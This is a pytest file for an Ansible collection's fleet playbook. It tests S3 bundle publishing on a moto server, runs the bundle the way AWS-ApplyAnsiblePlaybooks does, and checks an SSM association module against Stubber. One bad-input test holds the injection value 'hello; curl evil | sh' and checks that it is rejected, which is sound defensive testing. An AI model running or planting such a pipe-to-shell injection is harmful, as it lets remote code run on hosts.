"""playbooks/fleet_run.yml: the S3 part against a moto server over HTTP, the State Manager part
with botocore's Stubber, and the published bundle run the way AWS-ApplyAnsiblePlaybooks runs it.

moto 5.2.5 has no CreateAssociation (nor List/Describe/UpdateAssociation): over HTTP it answers
500 "The create_association action has not been implemented". So the playbook runs on moto with
fleet_run_association_enabled: false, and the association it describes (its
`fleet_run_association` fact, which the playbook's association task passes on field by field) is
given to ironclad.aws.ssm_association run in-process against Stubber, which checks each request
against SSM's service model.

The bundle is then downloaded from moto and run as the document's shell steps do (unzip, check
the PlaybookFile, `ansible-playbook -i "localhost," -c local -e "..." fleet.yml`), with a
collections path that holds amazon.aws and ansible.posix but not this collection: the run finds
ironclad.aws in the bundle or fails.
"""

import io
import json
import subprocess
import sys
import sysconfig
import zipfile
from pathlib import Path

import pytest
from ansible_collections.ironclad.aws.plugins.modules import ssm_association

from tests.harness import ROOT
from tests.harness import run_playbook as harness_run_playbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
from stubbed_module import stubbed_aws  # noqa: E402 - beside the unit tests

BUCKET = "example-fleet"
DESCRIBE = "Describe the association"
PUBLISH = "Publish the bundle (once per content)"
# The collections the venv installed (ansible.posix among them), without this tree's.
INSTALLED = sysconfig.get_paths()["purelib"]


@pytest.fixture(scope="module")
def tarball(tmp_path_factory):
    out = tmp_path_factory.mktemp("build")
    subprocess.run(
        [
            str(Path(sys.executable).parent / "ansible-galaxy"),
            "collection",
            "build",
            "--output-path",
            str(out),
            str(ROOT),
        ],
        check=True,
        capture_output=True,
    )
    return next(out.glob("ironclad-aws-*.tar.gz"))


def fleet_play(tarball, group_vars="", **extra):
    variables = {
        "fleet_run_region": "us-east-1",
        "fleet_run_bucket": BUCKET,
        "fleet_run_collection_tarball": str(tarball),
        "fleet_run_groups": ["bastion"],
        "fleet_run_target_tags": {"Role": "bastion"},
        "fleet_run_association_enabled": False,
        "fleet_run_group_vars_dir": str(group_vars),
        **extra,
    }
    lines = "".join(f"    {k}: {json.dumps(v)}\n" for k, v in variables.items())
    return f"""
- ansible.builtin.import_playbook: {ROOT}/playbooks/fleet_run.yml
  vars:
    fleet_run_endpoint_url: "{{{{ lookup('env', 'MOTO_URL') }}}}"
{lines}"""


@pytest.fixture
def group_vars(tmp_path):
    folder = tmp_path / "group_vars"
    folder.mkdir()
    (folder / "canary.yml").write_text("fleet_probe: from the bundle's group_vars\n")
    return folder


def test_publish_once_per_content_run_the_bundle_then_the_association_through_stubber(
    run_playbook, aws, tarball, group_vars, monkeypatch, capsys, tmp_path
):
    s3 = aws("s3")
    s3.create_bucket(Bucket=BUCKET)
    check = run_playbook(fleet_play(tarball, group_vars), check=True)
    assert check.rc == 0, check.stdout + check.stderr
    assert "Contents" not in s3.list_objects_v2(Bucket=BUCKET)

    first = run_playbook(fleet_play(tarball, group_vars))
    assert first.rc == 0, first.stdout + first.stderr
    assert first[PUBLISH]["changed"] is True
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET)["Contents"]]
    assert len(keys) == 1 and keys[0].startswith("ironclad/fleet/ironclad-aws-") and keys[0].endswith(".zip")
    assert (
        check[DESCRIBE]["ansible_facts"]["fleet_run_association"]
        == first[DESCRIBE]["ansible_facts"]["fleet_run_association"]
    )

    run_bundle_as_the_document_does(s3, keys[0], tmp_path)

    second = run_playbook(fleet_play(tarball, group_vars))
    assert second.rc == 0 and json.loads(second.stdout)["stats"]["localhost"]["changed"] == 0
    assert [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET)["Contents"]] == keys

    # Other content (one more group_vars file): a new bundle under a new name, the old one kept.
    (group_vars / "bastion.yml").write_text("bastion_admin_user: ops\n")
    third = run_playbook(fleet_play(tarball, group_vars))
    assert third[PUBLISH]["changed"] is True
    assert len(s3.list_objects_v2(Bucket=BUCKET)["Contents"]) == 2

    wanted = first[DESCRIBE]["ansible_facts"]["fleet_run_association"]
    source = json.loads(wanted["parameters"]["SourceInfo"])
    assert source == {"path": f"https://s3.us-east-1.amazonaws.com/{BUCKET}/{keys[0]}"}
    assert wanted["parameters"]["ExtraVariables"] == "SSM=True fleet_groups=bastion"
    assert wanted["parameters"]["PlaybookFile"] == "fleet.yml"

    aws_stub, run = stubbed_aws(monkeypatch, capsys)
    ssm = aws_stub("ssm")
    args = {k: v for k, v in wanted.items() if v is not None}
    filters = {"AssociationFilterList": [{"key": "AssociationName", "value": "ironclad-site-bastion"}]}
    ssm.add_response("list_associations", {"Associations": []}, filters)
    request = {
        "AssociationName": "ironclad-site-bastion",
        "Name": "AWS-ApplyAnsiblePlaybooks",
        "Targets": [{"Key": "tag:Role", "Values": ["bastion"]}],
        "Parameters": {k: [v] for k, v in sorted(wanted["parameters"].items())},
        "ScheduleExpression": "rate(1 day)",
        "MaxConcurrency": "10%",
        "MaxErrors": "1",
        "ApplyOnlyAtCronInterval": False,
    }
    described = dict(request, AssociationId="8dfe3659-4309-493a-8755-0123456789ab", AssociationVersion="1")
    described.pop("AssociationName")
    ssm.add_response(
        "create_association",
        {"AssociationDescription": dict(described, AssociationName="ironclad-site-bastion")},
        request,
    )
    created = run(ssm_association.main, args)
    assert created["changed"] is True, created
    # The next run with the same bundle: found, equal, no call.
    ssm.add_response(
        "list_associations",
        {"Associations": [{"AssociationId": described["AssociationId"], "AssociationName": "ironclad-site-bastion"}]},
        filters,
    )
    ssm.add_response(
        "describe_association",
        {"AssociationDescription": dict(described, AssociationName="ironclad-site-bastion")},
        {"AssociationId": described["AssociationId"]},
    )
    assert run(ssm_association.main, args)["changed"] is False
    aws_stub.assert_all_called()


def run_bundle_as_the_document_does(s3, key, tmp_path):
    workdir = tmp_path / "downloaded"
    with zipfile.ZipFile(io.BytesIO(s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())) as bundle:
        bundle.extractall(workdir)
    assert (workdir / "fleet.yml").is_file()
    assert (workdir / "collections/ansible_collections/ironclad/aws/MANIFEST.json").is_file()
    # A probe beside fleet.yml: after fleet.yml put the instance in its groups, the bundle's
    # group_vars reach it.
    (workdir / "probe.yml").write_text(
        "- ansible.builtin.import_playbook: fleet.yml\n"
        "- hosts: canary\n  gather_facts: false\n  tasks:\n"
        "    - name: probe\n      ansible.builtin.debug:\n        var: fleet_probe\n"
    )
    env = {"ANSIBLE_COLLECTIONS_PATH": INSTALLED, "ANSIBLE_PYTHON_INTERPRETER": sys.executable, "HOME": str(tmp_path)}

    def run(name, *args, json_output=False):
        return harness_run_playbook(
            workdir / name, hosts=["localhost"], connection="local", env=env, cwd=workdir, args=args,
            json_output=json_output, timeout=300,
        )  # fmt: skip

    listed = run("fleet.yml", "--list-tasks")
    assert listed.rc == 0, listed.tail()
    assert "ironclad.aws.bastion : " in listed.stdout and "ironclad.aws.awslogs : " in listed.stdout
    probe = run("probe.yml", "-e", "SSM=True fleet_groups=canary", json_output=True)
    assert probe.rc == 0, probe.tail()
    assert probe["probe"]["fleet_probe"] == "from the bundle's group_vars"
    missing = run("fleet.yml")
    assert missing.rc != 0 and "fleet_groups=GROUP" in missing.stdout


def test_bad_input_publishes_nothing(run_playbook, aws, tarball, tmp_path):
    s3 = aws("s3")
    s3.create_bucket(Bucket=BUCKET)
    for play in (
        fleet_play(tmp_path / "no-such.tar.gz"),
        fleet_play(tarball, fleet_run_extra_variables={"motd": "hello; curl evil | sh"}),
        fleet_play(tarball, fleet_run_groups=["bad-group!"]),
        fleet_play(tarball, fleet_run_target_tags={}),
    ):
        result = run_playbook(play)
        assert result.rc != 0
        assert "Nothing was published" in result["Check the inputs"]["msg"]
    assert "Contents" not in s3.list_objects_v2(Bucket=BUCKET)
